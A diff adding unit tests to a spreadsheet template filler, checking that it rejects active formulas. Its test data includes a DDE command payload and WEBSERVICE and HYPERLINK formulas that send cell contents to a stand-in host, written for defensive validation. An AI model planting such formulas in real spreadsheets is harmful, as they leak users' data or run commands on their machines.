@@ -161,6 +161,34 @@ TEST(fill, refuses_what_would_grow_or_act) {
   }
 }
 
+std::string formula_cell(const std::string& formula) {
+  return R"(<row r="1"><c r="A1" t="inlineStr"><is><t>{{name}}</t></is></c><c r="B1"><f>)" +
+         formula + "</f><v>0</v></c></row>";
+}
+
+TEST(fill, refuses_formulas_that_fetch_or_send) {
+  for (const char* formula :
+       {"_xlfn.WEBSERVICE(&quot;http://x/?d=&quot;&amp;A1)", "WebService(A1)", "_xlfn.IMAGE(A1)",
+        "HYPERLINK(&quot;http://x/&quot;&amp;A1,A1)", "cmd|'/c calc'!A0", "[1]Sheet1!A1",
+        "'[book.xlsx]S'!A1", "RTD(&quot;a&quot;,,A1)", "1+CALL(A1)"})
+    EXPECT_EQ(why_not(one_sheet(formula_cell(formula))), error::template_active) << formula;
+  for (const char* formula : {"SUM(A1:A3)", "RECALL(A1)", "IF(A1=&quot;a|b [1]&quot;,1,2)",
+                              "SUM('表 1'!A1:A2)", "Table1[[#This Row],[n]]"})
+    EXPECT_NE(why_not(one_sheet(formula_cell(formula))), error::template_active) << formula;
+  auto named = one_sheet(cells("短"));
+  set_part(named, "xl/worksheets/_rels/sheet1.xml.rels",
+           R"(<Relationships><Relationship Id="r9" Type="http://x/relationships/externalLink" )"
+           R"(Target="../theme/notes1.xml"/></Relationships>)");
+  EXPECT_EQ(why_not(named), error::template_active);
+}
+
+TEST(fill, all_sheets_together_stay_within_bounds_and_can_be_given_up) {
+  auto source = three_rows();
+  int asked = 0;
+  source.given_up = [&asked] { return ++asked > 2; };
+  EXPECT_EQ(why_not(one_sheet(cells("短")), source), error::cancelled);
+}
+
 TEST(fill, tells_its_placeholders) {
   EXPECT_EQ(*placeholders(testing::office_book()),
             (std::vector<std::string>{"unit", "name", "persons", "total", "nobody"}));
